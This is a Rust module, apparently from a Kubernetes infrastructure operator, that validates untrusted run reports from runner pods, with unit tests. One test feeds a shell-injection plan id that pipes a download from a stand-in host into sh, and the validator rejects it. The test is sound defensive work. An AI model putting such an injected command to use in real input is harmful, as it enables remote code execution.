//! Validates run reports (rule 12). Module code can use the token of the runner, so a report may contain any bytes.

use alustan_api::report::{
    ChangeSet, Failure, MAX_CHANGES, MAX_TEXT, PlanAsks, RunReport, RunResult, StepTimes,
    Undeclared,
};
use alustan_api::run::{
    Claim, Lineage, MAX_SLOTS, OwnBackend, RunKind, RunPhase, RunProgress, RunRecord, RunSpec,
    StateLock,
};
use alustan_api::{Engine, Reason};
use k8s_openapi::jiff::Timestamp;

use crate::model::facts::open_run;
use crate::observed::Told;

/// First protocol with a separate report Secret.
const OWN_REPORT: u32 = 5;
/// Maximum size of a name or digest, in bytes.
const MAX_WORD: usize = 256;
/// Maximum size of a state address, in bytes.
const MAX_ADDRESS: usize = 2_048;
/// Maximum size of a resource address in a module, in bytes.
const MAX_RESOURCE: usize = 512;
/// Maximum size of the name of a variable, in bytes.
const MAX_VARIABLE: usize = 128;
/// Maximum size of a plan id, in bytes. `spec.approval.plan` has the same limit.
const MAX_ID: usize = 64;
/// Maximum number of reasons why a plan needs approval. All of them are in one condition message of at most 32 KiB.
const MAX_BECAUSE: usize = 24;
/// Maximum size of one reason why a plan needs approval, in bytes.
const MAX_WHY: usize = 512;
/// Maximum size of a backend configuration, in bytes of JSON.
const MAX_BACKEND: usize = 64 << 10;
/// Maximum duration of a step, in milliseconds: 400 days.
const MAX_STEP: u64 = 400 * 24 * 3_600_000;
/// Maximum size of a failure message, in bytes.
const MAX_MESSAGE: usize = 4 * MAX_TEXT;
/// Length of the prefix that a Job name shares with the names of its pods, in bytes. Kubernetes truncates longer Job names in pod names.
const MAX_PREFIX: usize = 57;
/// Replaces a reported pod name that is not the name of a pod of the run.
const UNKNOWN_POD: &str = "an unknown pod";
/// Known plan actions.
const ACTIONS: [&str; 6] = ["create", "update", "replace", "delete", "forget", "import"];

/// Whether the runner of `run` writes a report Secret. Before protocol 5, runners wrote to the run record.
pub fn has_own_report(run: &RunSpec) -> bool {
    run.protocol >= OWN_REPORT
}

/// Merges `told`, the reported progress of the current run, into the run record `own` after validation. `has_job`: whether the Job of the
/// run exists. Without the Job, the progress may still be of an earlier run: the operator resets it before it creates the Job.
///
/// If the Job exists or a pod has claimed the run, and the progress is missing, unparsable or of another run, the run counts as applying. A
/// run that began to apply according to the record counts as applying until it reports. Its report may show that the engine did not start.
pub fn believed(own: &RunRecord, told: &Told, has_job: bool) -> RunRecord {
    let Some(run) = open_run(own).filter(|run| has_own_report(run)) else {
        return own.clone();
    };
    let before = RunRecord {
        begun: own.begun_before,
        attempted: own.attempted_before,
        ..own.clone()
    };
    let is_new = !has_job && own.claimed_by.is_none();
    match told {
        Told::Progress(told) if is_about(told, own.number, run) => {
            told_of(before, run, told, has_begun(own))
        }
        Told::Progress(told) if told.number <= own.number && is_new => not_begun(before),
        Told::Absent if is_new => not_begun(before),
        Told::Absent | Told::Unreadable | Told::Progress(_) => may_apply(before, run),
    }
}

fn is_about(told: &RunProgress, number: i64, run: &RunSpec) -> bool {
    told.number == number && told.trace_id == run.trace_id
}

/// Whether a pod of the current run of `own` has reported that the run began to apply. A claim without a pod uid is a placeholder and
/// proves nothing.
fn has_begun(own: &RunRecord) -> bool {
    let claim = own.claimed_by.as_ref();
    own.begun == own.number && claim.is_some_and(|claim| !claim.pod_uid.is_empty())
}

/// Returns the record of a run whose Job does not exist yet: not claimed and not begun.
fn not_begun(own: RunRecord) -> RunRecord {
    RunRecord {
        phase: RunPhase::Starting,
        claimed_by: None,
        cancel: false,
        lock: None,
        ..own
    }
}

/// Returns the record of a run whose phase is unknown. The run counts as applying.
fn may_apply(own: RunRecord, run: &RunSpec) -> RunRecord {
    let claimed_by = Some(unknown_pod(run));
    begun(
        RunRecord {
            phase: RunPhase::Applying,
            claimed_by,
            cancel: false,
            ..own
        },
        run,
    )
}

fn told_of(own: RunRecord, run: &RunSpec, told: &RunProgress, has_begun: bool) -> RunRecord {
    let phase = match told.phase.min(RunPhase::Reported) {
        RunPhase::Starting | RunPhase::Planning if has_begun => RunPhase::Applying,
        phase => phase,
    };
    let began = told.began || phase == RunPhase::Applying;
    let claimed = told.claimed_by.as_ref().map(|it| claim(it, run));
    let claimed = claimed.or_else(|| (phase > RunPhase::Starting).then(|| unknown_pod(run)));
    let is_known = told.own_backend.as_ref().is_none_or(is_bounded);
    let lineage = match &told.lineage {
        Lineage::Of(lineage) => Lineage::Of(cut(lineage, MAX_WORD)),
        other => other.clone(),
    };
    let record = RunRecord {
        phase,
        claimed_by: claimed,
        cancel: own.cancel && told.cancel,
        lock: told.lock.as_ref().map(lock),
        slots_wanted: own.slots_wanted.max(told.slots_wanted.min(MAX_SLOTS)),
        lineage,
        state_address: told.state_address.as_deref().map(address),
        own_backend: if is_known {
            told.own_backend.clone()
        } else {
            own.own_backend.clone()
        },
        ..own
    };
    if began { begun(record, run) } else { record }
}

/// Returns `record` after `run` reached [`RunPhase::Applying`].
fn begun(record: RunRecord, run: &RunSpec) -> RunRecord {
    let number = record.number;
    RunRecord {
        begun: number,
        attempted: if run.kind == RunKind::Apply {
            number
        } else {
            record.attempted
        },
        ..record
    }
}

fn unknown_pod(run: &RunSpec) -> Claim {
    Claim {
        pod_uid: String::new(),
        pod: UNKNOWN_POD.to_owned(),
        at: run.started_at,
    }
}

fn claim(told: &Claim, run: &RunSpec) -> Claim {
    Claim {
        pod_uid: cut(&told.pod_uid, MAX_WORD),
        pod: if is_pod_of(&told.pod, &run.job) {
            cut(&told.pod, MAX_WORD)
        } else {
            UNKNOWN_POD.to_owned()
        },
        at: told.at.max(run.started_at),
    }
}

/// Whether `pod` has the format of a pod name of `job`: the name of the Job, a hyphen, and a random suffix, at most 63 bytes. The next run
/// releases locks of this pod, so the name must not be that of a pod of another resource.
fn is_pod_of(pod: &str, job: &str) -> bool {
    let (prefix, _) = job.split_at(job.floor_char_boundary(MAX_PREFIX));
    let suffix = pod.strip_prefix(prefix).and_then(|rest| rest.get(1..));
    suffix.is_some_and(|suffix| {
        !suffix.is_empty() && suffix.bytes().all(|byte| byte.is_ascii_alphanumeric())
    })
}

fn lock(told: &StateLock) -> StateLock {
    StateLock {
        id: cut(&told.id, MAX_WORD),
        operation: cut(&told.operation, MAX_WORD),
        who: cut(&told.who, MAX_WORD),
        at: told.at,
    }
}

fn is_bounded(backend: &OwnBackend) -> bool {
    let size = serde_json::to_vec(backend).map_or(usize::MAX, |json| json.len());
    size <= MAX_BACKEND
}

/// Returns the progress entry of the run report for a run that starts, is cancelled or is recorded.
pub fn of(record: &RunRecord) -> RunProgress {
    let run = record.run.as_ref();
    RunProgress {
        number: record.number,
        trace_id: run.map(|run| run.trace_id.clone()).unwrap_or_default(),
        phase: record.phase.min(RunPhase::Reported),
        claimed_by: record.claimed_by.clone(),
        cancel: record.cancel,
        closed: record.phase == RunPhase::Recorded,
        began: record.number > 0 && record.begun == record.number,
        lock: record.lock.clone(),
        slots_wanted: record.slots_wanted,
        lineage: record.lineage.clone(),
        state_address: record.state_address.clone(),
        own_backend: record.own_backend.clone(),
    }
}

/// Validates a report of `run`: truncates texts, replaces unknown reasons and actions, clamps times to the lifetime of the run until
/// `now`.
pub fn report(told: RunReport, run: &RunSpec, now: Timestamp) -> RunReport {
    let end = now.max(run.started_at);
    let started_at = told.started_at.clamp(run.started_at, end);
    RunReport {
        kind: run.kind,
        trigger: run.trigger.to_string(),
        job: run.job.clone(),
        changes: told.changes.map(changes),
        asks: told.asks.and_then(asks),
        lineage: told.lineage.map(|it| cut(&it, MAX_WORD)),
        lock: told.lock.as_ref().map(lock),
        failure: told.failure.map(failure),
        state_address: told.state_address.as_deref().map(address),
        moved_from: told.moved_from.as_deref().map(address),
        engine: told.engine.as_ref().map(engine),
        undeclared: told
            .undeclared
            .iter()
            .take(MAX_CHANGES)
            .map(undeclared)
            .collect(),
        took: StepTimes {
            init: told.took.init.map(|it| it.min(MAX_STEP)),
            plan: told.took.plan.map(|it| it.min(MAX_STEP)),
            apply: told.took.apply.map(|it| it.min(MAX_STEP)),
        },
        started_at,
        finished_at: told.finished_at.clamp(started_at, end),
        ..told
    }
}

/// Returns the failure of a run with an impossible result in `report`: changes without a plan to approve, or a cancellation that the
/// operator did not request. The failure uses the retry budget: without it, the operator would start the same run in an endless loop
/// without backoff.
pub(crate) fn contradiction(report: &RunReport, is_cancelled: bool) -> Option<Failure> {
    let what = match report.result {
        RunResult::Changes if report.kind != RunKind::Drift && report.asks.is_none() => {
            "changes without a plan to approve"
        }
        RunResult::Cancelled if !is_cancelled => "a cancellation that the operator did not request",
        RunResult::Changes
        | RunResult::Cancelled
        | RunResult::NoChanges
        | RunResult::Done
        | RunResult::Failed => return None,
    };
    Some(Failure::module(
        Reason::ReportInvalid,
        format!(
            "run {} ({}) reported {what}: code of the module or of a provider may have written its report",
            report.number, report.kind
        ),
    ))
}

/// Validates an engine: truncates its version.
pub(crate) fn engine(told: &Engine) -> Engine {
    Engine {
        version: cut(&told.version, MAX_WORD),
        ..*told
    }
}

/// Validates the approval request of a plan. `None` unless the id is hexadecimal, because messages embed it in shell commands.
fn asks(told: PlanAsks) -> Option<PlanAsks> {
    let is_hexadecimal = told.id.bytes().all(|byte| byte.is_ascii_hexdigit());
    (is_hexadecimal && (1..=MAX_ID).contains(&told.id.len())).then(|| PlanAsks {
        id: told.id,
        because: told
            .because
            .iter()
            .take(MAX_BECAUSE)
            .map(|why| cut(why, MAX_WHY))
            .collect(),
    })
}

fn undeclared(told: &Undeclared) -> Undeclared {
    Undeclared {
        name: cut(&told.name, MAX_VARIABLE),
        similar: told.similar.as_deref().map(|it| cut(it, MAX_VARIABLE)),
    }
}

fn changes(mut told: ChangeSet) -> ChangeSet {
    told.resources.truncate(MAX_CHANGES);
    told.resources
        .retain(|it| ACTIONS.contains(&it.action.as_str()));
    for resource in &mut told.resources {
        resource.address = cut(&resource.address, MAX_RESOURCE);
    }
    ChangeSet {
        add: told.add.max(0),
        change: told.change.max(0),
        destroy: told.destroy.max(0),
        digest: cut(&told.digest, MAX_WORD),
        shape: cut(&told.shape, MAX_WORD),
        ..told
    }
}

/// Validates a failure: known reason, bounded message. The message may contain output of the module.
pub fn failure(mut told: Failure) -> Failure {
    let reason = Reason::from_stored(&told.reason).unwrap_or(Reason::Failed);
    told.reason = reason.into();
    told.message = cut(&told.message, MAX_MESSAGE);
    told
}

fn address(told: &str) -> String {
    cut(told, MAX_ADDRESS)
}

/// Truncates `text` to at most `most` bytes. Replaces control characters by spaces, because each takes six bytes in JSON.
pub(crate) fn cut(text: &str, most: usize) -> String {
    let is_control = |c: char| c.is_control() && !matches!(c, '\n' | '\t');
    text.get(..text.floor_char_boundary(most))
        .unwrap_or_default()
        .replace(is_control, " ")
}

#[cfg(test)]
mod tests {
    use alustan_api::names;
    use alustan_api::report::RunResult;
    use serde_json::json;

    use super::*;

    fn run() -> RunSpec {
        serde_json::from_value(json!({
            "kind": RunKind::Apply, "trigger": "created", "job": "web-apply-7", "image": "i",
            "tag": "t", "configHash": "c", "traceId": "abc", "protocol": 5,
            "startedAt": "2026-01-01T00:00:00Z", "revision": null, "context": null,
        }))
        .unwrap()
    }

    fn record() -> RunRecord {
        RunRecord {
            number: 7,
            run: Some(run()),
            attempted: 5,
            attempted_before: 5,
            begun: 6,
            begun_before: 6,
            ..RunRecord::default()
        }
    }

    fn reported(number: i64, phase: RunPhase) -> Told {
        let run = run();
        Told::Progress(Box::new(RunProgress {
            number,
            phase,
            claimed_by: Some(Claim {
                pod_uid: "uid".to_owned(),
                pod: "web-apply-7-abcde".to_owned(),
                at: run.started_at,
            }),
            trace_id: run.trace_id,
            ..RunProgress::default()
        }))
    }

    /// Returns the phase, the number of the last run that began to apply or destroy, and the number of the last apply that began.
    fn progress(record: &RunRecord) -> (RunPhase, i64, i64) {
        (record.phase, record.begun, record.attempted)
    }

    #[test]
    fn begun_run_stays_begun_until_it_reports() {
        let own = believed(&record(), &reported(7, RunPhase::Applying), true);
        for phase in [RunPhase::Starting, RunPhase::Planning] {
            let lowered = believed(&own, &reported(7, phase), true);
            assert_eq!(progress(&lowered), (RunPhase::Applying, 7, 7));
        }
        let refused = believed(&own, &reported(7, RunPhase::Reported), true);
        assert_eq!(progress(&refused), (RunPhase::Reported, 6, 5));
    }

    #[test]
    fn claimed_run_without_report_and_job_may_apply() {
        let own = believed(&record(), &reported(7, RunPhase::Planning), true);
        assert_eq!(progress(&own), (RunPhase::Planning, 6, 5));
        for told in [Told::Absent, reported(6, RunPhase::Reported)] {
            let claimed = believed(&own, &told, false);
            assert_eq!(progress(&claimed), (RunPhase::Applying, 7, 7));
            let new = believed(&record(), &told, false);
            assert_eq!(progress(&new), (RunPhase::Starting, 6, 5));
        }
    }

    #[test]
    fn claim_names_only_pods_of_its_job() {
        let long = names::run_job(&"n".repeat(50), RunKind::Apply, 1_234_567);
        let long_pod = format!("{}abcde", &long[..58]);
        for (job, pod, is_kept) in [
            ("web-apply-7", "web-apply-7-abcde", true),
            (&*long, &*long_pod, true),
            ("web-apply-7", "web-apply-7", false),
            ("web-apply-7", "web-apply-7-", false),
            ("web-apply-7", "web-apply-7-apply-1-abcde", false),
            ("web-apply-7", "api-apply-7-abcde", false),
            ("web-apply-7", "web-apply-7-abcde\n", false),
        ] {
            let run = RunSpec {
                job: job.to_owned(),
                ..run()
            };
            let told = Claim {
                pod_uid: "uid".to_owned(),
                pod: pod.to_owned(),
                at: run.started_at,
            };
            let kept = if is_kept { pod } else { UNKNOWN_POD };
            assert_eq!(claim(&told, &run).pod, kept, "{pod}");
        }
    }

    #[test]
    fn approval_request_requires_hexadecimal_plan_id() {
        let run = run();
        let ids = [
            ("0f3c9a51b2e4d870".to_owned(), true),
            ("a".repeat(64), true),
            ("a".repeat(65), false),
            (String::new(), false),
            ("a'; curl evil.test | sh; '".to_owned(), false),
            ("a\u{1b}[2K".to_owned(), false),
        ];
        for (id, is_kept) in ids {
            let told: RunReport = serde_json::from_value(json!({
                "number": 7, "kind": RunKind::Apply, "result": RunResult::Changes,
                "asks": {"id": id, "because": vec!["x".repeat(600); 30]},
                "startedAt": run.started_at, "finishedAt": run.started_at,
            }))
            .unwrap();
            let kept = PlanAsks {
                id,
                because: vec!["x".repeat(512); 24],
            };
            let asks = report(told, &run, run.started_at).asks;
            assert_eq!(asks, is_kept.then_some(kept));
        }
    }
}
